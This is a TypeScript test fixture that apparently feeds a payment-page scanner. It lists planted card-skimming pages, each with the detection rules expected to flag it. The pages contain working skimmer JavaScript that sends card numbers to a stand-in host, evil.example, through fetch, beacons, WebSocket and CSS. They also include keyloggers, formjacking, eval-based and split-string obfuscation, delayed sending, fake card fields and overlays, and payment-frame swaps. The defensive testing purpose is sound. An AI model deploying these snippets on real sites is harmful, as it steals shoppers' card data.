import { EVIL, RAW_FORM, STRIPE_FRAME, type PageCase } from './page-case.ts';
import { SKIMMER_PAGES } from './skimmer-pages.ts';

const LEAVES = ['page-card-data-leaves evil.example'];
const NUMBER = "document.getElementById('number')";

/** An attack on a raw form whose script is at `EVIL`, or inline. */
function onForm(name: string, script: string, expected: readonly string[] = LEAVES): PageCase {
  return { name, body: `${RAW_FORM}<script>${script}</script>`, expected };
}

/** The same with the provider's frame on the page. */
function onFrame(name: string, script: string, expected: readonly string[]): PageCase {
  return { name, body: `${STRIPE_FRAME}<script>${script}</script>`, expected };
}

const SEND = `const send = (d) => fetch('${EVIL}/c', { method: 'POST', mode: 'no-cors', body: d });`;
const AT_CHANGE = (act: string): string =>
  `${NUMBER}.addEventListener('input', () => { const v = ${NUMBER}.value; ` +
  `if (v.length > 15) { ${act} } });`;
const INPUT_OVER =
  "const o = document.createElement('input'); o.name = 'q'; " +
  "o.style = 'position:absolute;left:0;top:0;width:400px;height:60px;z-index:9'; " +
  "document.getElementById('payment').append(o);";
const FAKE =
  "const f = document.createElement('div'); f.innerHTML = '<label>Card number <input " +
  "name=cardnumber></label><label>CVC <input name=cvc></label>'; document.body.prepend(f);";
const SWAP =
  "document.getElementById('card').src = 'https://js.stripe.evil.example/v3/elements-inner-card';";
const ENCODED = Buffer.from(SEND + AT_CHANGE('send(v)')).toString('base64');
const PIECES = Array.from(`${SEND}${AT_CHANGE('send(v)')}`, (c) => c.charCodeAt(0)).join(',');

/** Planted attacks, each with the rules that must find it. */
export const ATTACK_PAGES: readonly PageCase[] = [
  onForm('exfiltration by fetch', SEND + AT_CHANGE('send(v)')),
  onForm('exfiltration by image', AT_CHANGE(`new Image().src = '${EVIL}/p.gif?d=' + v;`)),
  onForm('exfiltration by beacon', AT_CHANGE(`navigator.sendBeacon('${EVIL}/b', v);`)),
  onForm(
    'exfiltration by WebSocket',
    `const w = new WebSocket('wss://cdn.evil.example/ws'); const later = (v) => ` +
      'w.readyState === 1 ? w.send(v) : w.addEventListener("open", () => w.send(v)); ' +
      AT_CHANGE('later(v)'),
  ),
  onForm(
    'exfiltration by CSS',
    AT_CHANGE(`document.body.style.backgroundImage = 'url(${EVIL}/x.png?c=' + v + ')';`),
  ),
  onForm('exfiltration in a header', AT_CHANGE("fetch('/a', { headers: { 'x-d': v } });"), [
    'page-card-data-leaves shop.example header',
  ]),
  onForm('exfiltration in base64', SEND + AT_CHANGE('send(btoa(v))')),
  onForm('exfiltration reversed', SEND + AT_CHANGE("send([...v].reverse().join(''))")),
  onForm(
    'exfiltration in hex',
    SEND +
      AT_CHANGE("send([...v].map((c) => c.charCodeAt(0).toString(16).padStart(2, '0')).join(''))"),
  ),
  onForm(
    'exfiltration XORed and in base64',
    SEND +
      AT_CHANGE(
        'send(btoa([...v].map((c) => String.fromCharCode(c.charCodeAt(0) ^ 90)).join("")))',
      ),
  ),
  onForm('exfiltration in parts', SEND + AT_CHANGE('for (const p of v.match(/.{4}/g)) send(p);')),
  onForm('keylogger', `${SEND} document.addEventListener('keydown', (e) => send('k=' + e.key));`),
  onFrame(
    'keylogger beside a provider frame',
    `${SEND} window.addEventListener('keydown', (e) => send('k=' + e.key));`,
    LEAVES,
  ),
  {
    name: 'listener of a third-party script',
    body: `${RAW_FORM}<script src="${EVIL}/listen.js"></script>`,
    expected: ['page-card-listener', 'page-third-party-script', 'page-no-integrity'],
  },
  onForm(
    'formjacking at submit',
    `${SEND} document.getElementById('checkout').addEventListener('submit', ` +
      `() => send(${NUMBER}.value));`,
  ),
  onForm(
    'formjacking by a click on the button',
    `${SEND} document.querySelector('button').addEventListener('click', () ` +
      `=> send(${NUMBER}.value));`,
  ),
  onForm('obfuscated: base64 and eval', `eval(atob('${ENCODED}'))`, [
    ...LEAVES,
    'page-evaluated-code',
  ]),
  onForm('obfuscated: Function constructor', `Function(atob('${ENCODED}'))()`, [
    ...LEAVES,
    'page-evaluated-code',
  ]),
  onForm('obfuscated: character codes', `(0, window['ev' + 'al'])(String.fromCharCode(${PIECES}))`),
  onForm(
    'obfuscated: split strings',
    AT_CHANGE(
      `window['fe' + 'tch'](['https:', '', 'cdn.ev' + 'il.example', 'c?d=' + v].join('/'));`,
    ),
  ),
  onForm('delayed by 30 seconds', `setTimeout(() => { ${SEND} ${AT_CHANGE('send(v)')} }, 30000);`),
  onForm('sent a minute later', SEND + AT_CHANGE('setTimeout(() => send(v), 60000)')),
  onForm(
    'polled by a timer',
    `${SEND} setInterval(() => ${NUMBER}.value && send(${NUMBER}.value), 5000);`,
  ),
  onForm(
    'after scrolling',
    `addEventListener('scroll', () => { ${SEND} ${AT_CHANGE('send(v)')} }, ` +
      `{ once: true }); document.body.style.height = '5000px';`,
  ),
  onFrame('overlay', INPUT_OVER, ['page-overlay']),
  onFrame(
    'invisible overlay',
    INPUT_OVER.replaceAll("'input'", "'div'").replace('z-index:9', 'z-index:9;opacity:0'),
    ['page-overlay'],
  ),
  onFrame('delayed overlay', `setTimeout(() => { ${INPUT_OVER} }, 20000);`, ['page-overlay']),
  onFrame('fake card field', FAKE, ['page-fake-card-field']),
  onFrame(
    'fake card field in a closed shadow tree',
    `const h = document.createElement('div'); document.body.prepend(h); h.attachShadow({ ` +
      `mode: 'closed' }).innerHTML = '<input name=cardnumber>';`,
    ['page-fake-card-field'],
  ),
  onFrame('fake card field after 15 seconds', `setTimeout(() => { ${FAKE} }, 15000);`, [
    'page-fake-card-field',
  ]),
  onFrame(
    'fake card field that can be edited',
    `const e = document.createElement('div'); e.contentEditable = 'true'; e.setAttribute('aria-label', ` +
      `'Card number'); e.textContent = ' '; e.style = 'width:200px;height:30px'; ` +
      `document.body.prepend(e);`,
    ['page-fake-card-field'],
  ),
  onFrame('frame swap', `setTimeout(() => { ${SWAP} }, 3000);`, ['page-frame-swap']),
  onFrame(
    'frame swap by replacement',
    `setTimeout(() => { const n = document.createElement('iframe'); n.src = ` +
      `'https://js.stripe.evil.example/v3/elements-inner-card'; n.style = 'width:400px;height:60px'; ` +
      `document.getElementById('card').replaceWith(n); }, 3000);`,
    ['page-frame-swap'],
  ),
  onForm('kept in localStorage', AT_CHANGE("localStorage.setItem('c', v)"), [
    'page-card-data-kept',
  ]),
  onForm('kept in a cookie', AT_CHANGE("document.cookie = 'c=' + btoa(v)"), [
    'page-card-data-kept',
  ]),
  onForm('written to the console', AT_CHANGE('console.log("card", v)'), ['page-card-data-kept']),
  onForm('written to the address', AT_CHANGE("history.replaceState(0, '', '?c=' + v)"), [
    'page-card-data-kept',
  ]),
  onForm(
    'spoofed sourceURL',
    `(0, eval)("var x = 1;\\n//# sourceURL=https://www.google-analytics.com/ga.js");`,
    ['page-spoofed-source', 'page-evaluated-code'],
  ),
  onForm(
    'worker from a blob',
    `new Worker(URL.createObjectURL(new Blob(['self.onmessage = () => 0'])));`,
    ['page-worker-script'],
  ),
  {
    name: 'raw card form over http',
    body: RAW_FORM.replace('/pay', 'http://shop.example/pay'),
    expected: ['page-card-field-outside-provider', 'page-raw-card-form', 'page-http-form'],
  },
  ...SKIMMER_PAGES,
];
